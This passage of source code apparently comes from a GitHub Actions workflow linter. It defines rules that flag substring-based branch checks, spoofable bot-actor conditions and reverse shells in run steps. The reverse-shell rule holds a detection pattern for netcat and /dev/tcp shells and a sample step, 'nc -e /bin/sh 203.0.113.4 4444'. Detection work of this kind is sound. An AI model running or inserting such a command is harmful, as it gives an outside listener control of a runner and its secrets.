    id: 'auth/unsound-contains', title: 'Condition that a part of a name fulfils', severity: 'medium', confidence: 'medium', types: ['github_step', 'github_job'], file, what: 'Reports `contains` with a text in its first place and a name that others choose in its second.', why: 'A branch that is called like a part of the text (`main dev` holds `ain`) fulfils it.', references: ['CWE-863', 'AC-3'], noFix: 'The names have to become a list: contains(fromJSON(\'["main"]\'), github.ref_name).', whenNotToUse: 'Where nobody else may name a branch.',
    check: (resource, tell) => { const own = resource.attributes.get('if')?.value; if (own?.kind === 'string' && /\bcontains\(\s*'[^']*'\s*,\s*(?:github\.(?:ref|ref_name|head_ref|base_ref|actor|triggering_actor)|env\.\w+|inputs\.\w+)\s*\)/.test(own.value)) tell(own, `"${resource.name}" lets parts of names pass.`); },
    bad: workflow('push', "if: contains('refs/heads/main refs/heads/dev', github.ref)", `    ${'^'.repeat("contains('refs/heads/main refs/heads/dev', github.ref)".length)}`, ...steps('- run: make')), good: workflow('push', "if: github.ref == 'refs/heads/main'", ...steps('- run: make')),
  }),
  objectRule({
    id: 'auth/spoofable-actor', title: 'Check of the actor that can be tricked', severity: 'low', confidence: 'medium', types: ['github_job', 'github_step'], file, what: 'Reports conditions on `github.actor` that stand for a bot.', why: 'The actor is whoever caused the last event, not who wrote the code.', references: ['CWE-287', 'IA-2'],
    check: (resource, tell) => { const own = resource.attributes.get('if')?.value; if (own?.kind === 'string' && /github\.(?:actor|triggering_actor)\s*==\s*['"][\w-]+\[bot\]/.test(own.value)) tell(own, `"${resource.name}" trusts whoever caused the last event.`); },
    bad: workflow('pull_request_target', "if: github.actor == 'dependabot[bot]'", `    ${'^'.repeat("github.actor == 'dependabot[bot]'".length)}`, ...steps('- run: make')), good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'workload/reverse-shell', title: 'Shell for somebody else', severity: 'high', types: ['github_step'], file, what: 'Reports scripts that connect a shell to a network address.', why: 'Whoever listens there commands the runner and has its secrets.', references: ['CWE-506', 'SI-3'],
    check: (resource, tell) => { const run = resource.attributes.get('run')?.value; if (run?.kind === 'string' && /\b(?:nc|ncat|netcat)\b[^\n]*(?:-e|-c)\b|bash\s+-i\s*>&\s*\/dev\/tcp\/|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*\d{1,3}(?:\.\d{1,3}){3}/.test(run.value)) tell(run, `"${resource.name}" connects a shell to the network.`); },
    bad: workflow('push', ...steps('- run: nc -e /bin/sh 203.0.113.4 4444', '       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')), good: workflow('push', ...steps('- run: make')),
  }),
];
